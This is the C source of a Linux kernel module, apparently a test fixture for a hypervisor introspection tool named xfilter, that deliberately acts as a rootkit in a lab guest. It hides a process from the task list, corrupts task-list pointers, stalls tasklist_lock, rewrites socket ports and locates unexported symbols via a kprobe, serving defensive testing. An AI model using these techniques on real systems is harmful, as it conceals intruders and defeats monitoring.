// SPDX-License-Identifier: GPL-2.0
/*
 * xfrk: a small rootkit for the lab's guest kernel. It does to the guest's
 * kernel memory what a real one would do to hide from or confuse xfilter's
 * introspection (tests/kselftest/40-rootkit.sh). One mode per insmod:
 *
 *   hide_pid=N          unlink task N from the task list (DKOM); it keeps
 *                       running, its sockets stay in the hash tables.
 *   cycle_pid=N         point task N's tasks.next back at init (pid 1): a
 *                       cycle that never reaches init_task again.
 *   garbage=1           point init_task.tasks.next at a page of random bytes.
 *   wild=1              point init_task.tasks.next at a non-canonical address.
 *   lock_ms=N           a kthread takes tasklist_lock for writing in bursts of
 *                       N ms (irqs off), lock_gap_ms apart, for lock_s seconds.
 *   ports_pid=N         rewrite the local port (skc_num) of every UDP socket
 *                       of task N to new_port: the hash chains still hold the
 *                       sock, the packets still carry the real port (inet_sport),
 *                       but the sock no longer says so.
 *   hcall=1             call xfilter_op from the guest's kernel, as an intruder
 *                       with root would to read the rules, replace them with
 *                       an empty table or check a flow of dom0: probe, rules,
 *                       check, each answer logged ("xfrk: hcall ..."). Xen must
 *                       refuse all three (-EPERM, -EACCES under FLASK).
 *                       Nothing stays: the insmod fails with ECANCELED.
 *
 * cycle/garbage/wild are undone after hold_s seconds (the guest's own
 * for_each_process users, khungtaskd among them, must not meet them for long)
 * and at rmmod; hide and ports are undone at rmmod. Every corruption targets a
 * link that the guest never rewrites on its own (init_task's and kernel
 * threads' next pointers), so restoring it is safe.
 *
 * tasklist_lock is not exported: its address comes from kallsyms_lookup_name,
 * itself found with a kprobe, as real rootkits do since 5.7.
 */
#include <linux/delay.h>
#include <linux/fdtable.h>
#include <linux/file.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/net.h>
#include <linux/random.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/slab.h>
#include <linux/workqueue.h>
#include <net/inet_sock.h>
#include <net/sock.h>
#include <asm/xen/hypercall.h>

#include "../../../include/xfilter/hypercall.h"

static int hide_pid;
static int cycle_pid;
static bool garbage;
static bool wild;
static int lock_ms;
static int lock_gap_ms = 200;
static int lock_s = 30;
static int ports_pid;
static int new_port = 4444;
static int hold_s = 30;
static bool hcall;
module_param(hide_pid, int, 0444);
module_param(cycle_pid, int, 0444);
module_param(garbage, bool, 0444);
module_param(wild, bool, 0444);
module_param(lock_ms, int, 0444);
module_param(lock_gap_ms, int, 0444);
module_param(lock_s, int, 0444);
module_param(ports_pid, int, 0444);
module_param(new_port, int, 0444);
module_param(hold_s, int, 0444);
module_param(hcall, bool, 0444);

static rwlock_t *xfrk_tasklist_lock;
static struct task_struct *hidden;
static struct list_head *patched;	/* the list_head whose next we changed */
static struct list_head *patched_old;
static void *garbage_page;
static struct task_struct *locker;

#define XFRK_MAX_SOCKS 16
static struct {
	struct sock *sk;
	u16 old;
} socks[XFRK_MAX_SOCKS];
static int nsocks;

static unsigned long xfrk_lookup(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&kp) < 0)
		return 0;
	lookup = (void *)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? lookup(name) : 0;
}

static struct task_struct *xfrk_task(int pid)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	return t;
}

/* ---- (a) hide a task ------------------------------------------------------ */

static int xfrk_hide(void)
{
	hidden = xfrk_task(hide_pid);
	if (!hidden)
		return -ESRCH;
	write_lock_irq(xfrk_tasklist_lock);
	list_del_rcu(&hidden->tasks);
	write_unlock_irq(xfrk_tasklist_lock);
	synchronize_rcu();
	/* Self-linked, so the task's own exit (list_del_rcu) stays valid. */
	write_lock_irq(xfrk_tasklist_lock);
	INIT_LIST_HEAD(&hidden->tasks);
	write_unlock_irq(xfrk_tasklist_lock);
	pr_info("xfrk: hid pid %d (%s)\n", hide_pid, hidden->comm);
	return 0;
}

static void xfrk_unhide(void)
{
	write_lock_irq(xfrk_tasklist_lock);
	/* Alive and still self-linked (not unhashed by its exit). */
	if (pid_alive(hidden) && hidden->tasks.next == &hidden->tasks)
		list_add_tail_rcu(&hidden->tasks, &init_task.tasks);
	write_unlock_irq(xfrk_tasklist_lock);
	pr_info("xfrk: unhid pid %d\n", hide_pid);
	put_task_struct(hidden);
	hidden = NULL;
}

/* ---- (b) a cycle, garbage, a wild pointer ------------------------------- */

static void xfrk_unpatch(void)
{
	if (!patched)
		return;
	write_lock_irq(xfrk_tasklist_lock);
	WRITE_ONCE(patched->next, patched_old);
	write_unlock_irq(xfrk_tasklist_lock);
	patched = NULL;
	pr_info("xfrk: task list restored\n");
}

static void xfrk_unpatch_work(struct work_struct *w)
{
	xfrk_unpatch();
}
static DECLARE_DELAYED_WORK(unpatch_work, xfrk_unpatch_work);

static int xfrk_patch(void)
{
	struct list_head *to;

	if (cycle_pid) {
		struct task_struct *t = xfrk_task(cycle_pid), *init = xfrk_task(1);

		if (!t || !init) {
			if (t)
				put_task_struct(t);
			if (init)
				put_task_struct(init);
			return -ESRCH;
		}
		patched = &t->tasks;
		to = &init->tasks;
		/* kernel threads and init do not exit: the pointers stay valid */
		put_task_struct(t);
		put_task_struct(init);
	} else if (garbage) {
		garbage_page = (void *)__get_free_page(GFP_KERNEL);
		if (!garbage_page)
			return -ENOMEM;
		get_random_bytes(garbage_page, PAGE_SIZE);
		patched = &init_task.tasks;
		to = garbage_page + 64;
	} else {
		patched = &init_task.tasks;
		to = (void *)0x8000dead0000beefUL;
	}
	write_lock_irq(xfrk_tasklist_lock);
	patched_old = patched->next;
	WRITE_ONCE(patched->next, to);
	write_unlock_irq(xfrk_tasklist_lock);
	pr_info("xfrk: task list next %px -> %px for %d s\n", patched_old, to, hold_s);
	schedule_delayed_work(&unpatch_work, hold_s * HZ);
	return 0;
}

/* ---- (c) hold tasklist_lock --------------------------------------------- */

static int xfrk_locker(void *arg)
{
	unsigned long end = jiffies + lock_s * HZ;
	unsigned long bursts = 0;

	while (!kthread_should_stop() && time_before(jiffies, end)) {
		write_lock_irq(xfrk_tasklist_lock);
		mdelay(lock_ms);
		write_unlock_irq(xfrk_tasklist_lock);
		bursts++;
		msleep_interruptible(lock_gap_ms);
	}
	pr_info("xfrk: held tasklist_lock %lu times for %d ms\n", bursts, lock_ms);
	while (!kthread_should_stop())
		msleep_interruptible(100);
	return 0;
}

/* ---- (d) rewrite a socket's ports --------------------------------------- */

static int xfrk_port_fd(const void *arg, struct file *file, unsigned int fd)
{
	struct socket *sock = sock_from_file(file);
	struct sock *sk = sock ? sock->sk : NULL;

	/*
	 * UDP only: TCP's bind hash is found again from inet_num when the
	 * socket closes, and a rewritten one would unlink the wrong bucket.
	 */
	if (!sk || (sk->sk_family != AF_INET && sk->sk_family != AF_INET6) ||
	    sk->sk_type != SOCK_DGRAM || nsocks >= XFRK_MAX_SOCKS)
		return 0;
	sock_hold(sk);
	socks[nsocks].sk = sk;
	socks[nsocks].old = sk->sk_num;
	nsocks++;
	pr_info("xfrk: pid %d fd %u port %u -> %d\n", ports_pid, fd, sk->sk_num, new_port);
	WRITE_ONCE(sk->sk_num, new_port);
	return 0;
}

static int xfrk_ports(void)
{
	struct task_struct *t = xfrk_task(ports_pid);

	if (!t)
		return -ESRCH;
	task_lock(t);
	if (t->files)
		iterate_fd(t->files, 0, xfrk_port_fd, NULL);
	task_unlock(t);
	put_task_struct(t);
	return nsocks ? 0 : -ENOENT;
}

static void xfrk_unports(void)
{
	while (nsocks--) {
		WRITE_ONCE(socks[nsocks].sk->sk_num, socks[nsocks].old);
		sock_put(socks[nsocks].sk);
	}
	nsocks = 0;
}

/* hcall=1: what xfilter_op answers a guest; nothing to undo. */
static int xfrk_hcall(void)
{
	struct xf_hv_probe probe = { 0 };
	struct xf_hv_rules rules = { .generation = 1 };
	struct xf_hv_check check = { .domid = 0, .n = 1 };
	long p, r, c;

	p = xen_single_call(XF_HV_HYPERCALL_NR, xf_hv_cmd(XF_HV_PROBE),
			    (unsigned long)&probe, 0, 0, 0);
	r = xen_single_call(XF_HV_HYPERCALL_NR, xf_hv_cmd(XF_HV_RULES),
			    (unsigned long)&rules, 0, 0, 0);
	c = xen_single_call(XF_HV_HYPERCALL_NR, xf_hv_cmd(XF_HV_CHECK),
			    (unsigned long)&check, 0, 0, 0);
	pr_info("xfrk: hcall probe=%ld rules=%ld check=%ld\n", p, r, c);
	return -ECANCELED;
}

static int __init xfrk_init(void)
{
	int r;

	xfrk_tasklist_lock = (rwlock_t *)xfrk_lookup("tasklist_lock");
	if (!xfrk_tasklist_lock) {
		pr_err("xfrk: tasklist_lock not found\n");
		return -ENOENT;
	}
	if (hcall)
		return xfrk_hcall();
	if (hide_pid)
		return xfrk_hide();
	if (cycle_pid || garbage || wild)
		return xfrk_patch();
	if (ports_pid)
		return xfrk_ports();
	if (lock_ms > 0) {
		lock_ms = min(lock_ms, 2000);
		locker = kthread_run(xfrk_locker, NULL, "xfrk-lock");
		r = PTR_ERR_OR_ZERO(locker);
		if (r)
			locker = NULL;
		return r;
	}
	pr_err("xfrk: no mode given\n");
	return -EINVAL;
}

static void __exit xfrk_exit(void)
{
	if (locker)
		kthread_stop(locker);
	cancel_delayed_work_sync(&unpatch_work);
	xfrk_unpatch();
	if (hidden)
		xfrk_unhide();
	xfrk_unports();
	/* after unpatch: nothing points into the page any more */
	synchronize_rcu();
	if (garbage_page)
		free_page((unsigned long)garbage_page);
}

module_init(xfrk_init);
module_exit(xfrk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("xfilter lab: a hostile guest kernel module");
